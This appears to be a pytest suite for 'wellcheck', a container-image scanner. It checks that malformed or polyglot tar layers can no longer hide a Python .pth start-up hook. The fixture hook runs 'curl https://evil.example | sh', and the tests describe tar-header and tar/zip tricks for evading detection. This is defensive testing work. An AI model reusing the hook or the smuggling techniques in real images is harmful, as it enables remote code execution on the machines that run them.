"""Issue 11 through the real ``wellcheck`` program: image layers that containerd reads
one way and wellcheck used to read another.  Each used to PASS (exit 0); now the
start-up hook the runtime installs is found (exit 1), or the layer is refused (exit 2).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from imagebuilder import build_docker_archive
from imagebuilder import dist_info as image_dist
from sandbox import Sandbox
from tarkit import longname, member, pax, sparse_10, tar

SITE = "usr/local/lib/python3.12/site-packages"
PTH = f"{SITE}/zz_evil.pth".encode()
HOOK = b"import os; os.system('curl https://evil.example | sh')\n"

HIDDEN = {
    "gnu-sparse-key": tar(pax({"GNU.sparse.foo": "1"}) + member(PTH, HOOK)),
    "trailing-slash": tar(member(PTH + b"/", HOOK)),
    "sparse-1.0": tar(sparse_10(PTH, b"\0" * 5000 + b"\n" + HOOK)),
}


def _image(sandbox: Sandbox, layer: bytes, name: str = "image.tar") -> Path:
    base = image_dist("requests", "2.25.1", SITE)
    return build_docker_archive(sandbox.root / name, [base, layer], "gzip")  # type: ignore[list-item]


@pytest.mark.parametrize("case", list(HIDDEN))
def test_a_start_up_hook_the_runtime_installs_is_found(sandbox: Sandbox, case: str) -> None:
    scan = sandbox.wellcheck("scan", _image(sandbox, HIDDEN[case]), "--no-advisories", "-j", "1",
                             "-f", "json")  # fmt: skip
    assert scan.returncode == 1, scan.stderr
    [artifact] = json.loads(scan.stdout)["artifacts"]
    hooks = [f["rule"] for f in artifact["findings"] if f["kind"] not in ("behaviour", "verdict")]
    assert hooks == ["WC-PTH-EXEC"]  # (what the hook's code does is the behaviour check's)


def test_an_ambiguous_layer_exits_2_naming_the_rule(sandbox: Sandbox) -> None:
    layer = tar(longname(PTH) + pax({"path": "harmless.txt"}) + member(b"x", HOOK))
    sbom = sandbox.wellcheck("sbom", _image(sandbox, layer), "-o", sandbox.cwd / "sbom.json")
    assert sbom.returncode == 2
    [line] = sbom.stderr.strip().splitlines()
    assert line.startswith("wellcheck: error: hostile artifact: member ")
    assert "ambiguous-tar-header" in line
    assert not (sandbox.cwd / "sbom.json").exists()


def test_a_corrupt_pax_number_is_one_artifact_error_and_the_others_are_reported(
    sandbox: Sandbox,
) -> None:
    """``size=²`` used to crash the whole scan: no report for any artifact."""
    bad = _image(sandbox, tar(pax({"size": "²"}) + member(PTH, HOOK)), "bad.tar")
    good = _image(sandbox, tar(member(b"app/main.py", b"print(1)\n")), "good.tar")
    scan = sandbox.wellcheck("scan", bad, good, "--no-advisories", "-j", "1", "-f", "json")
    assert scan.returncode == 2, scan.stderr
    first, second = json.loads(scan.stdout)["artifacts"]
    assert "corrupt tar (invalid pax size" in first["error"]
    assert "internal error" not in first["error"]
    assert not second.get("error")
    assert {c["name"] for c in second["components"]} >= {"requests"}


def test_a_tar_that_is_also_a_zip_is_scanned_both_ways(sandbox: Sandbox) -> None:
    """Item 4: a docker-save tar whose first member's name begins with a zip signature
    and whose last member holds a benign function zip was read as that zip alone (PASS);
    docker loads the image and its start-up hook."""
    import tarfile

    from imagebuilder import write_tar
    from zipkit import zip_bytes

    plain = _image(sandbox, tar(member(PTH, HOOK)), "plain.tar")
    with tarfile.open(plain) as archive:
        members = [(m.name, archive.extractfile(m).read()) for m in archive]  # type: ignore[union-attr]
    benign = zip_bytes({"app.py": b"def handler(e, c):\n    return 1\n"})
    polyglot = write_tar(
        sandbox.root / "function.zip", [("PK\x03\x04" + "\x14" * 20, b""), *members, ("z", benign)]
    )
    scan = sandbox.wellcheck("scan", polyglot, "--no-advisories", "-j", "1", "-f", "json")
    assert scan.returncode == 1, scan.stderr
    [artifact] = json.loads(scan.stdout)["artifacts"]
    assert artifact["artifact"]["kind"] == "docker-archive"
    hooks = [f["rule"] for f in artifact["findings"] if f["kind"] not in ("behaviour", "verdict")]
    assert hooks == ["WC-PTH-EXEC"]  # (what the hook's code does is the behaviour check's)
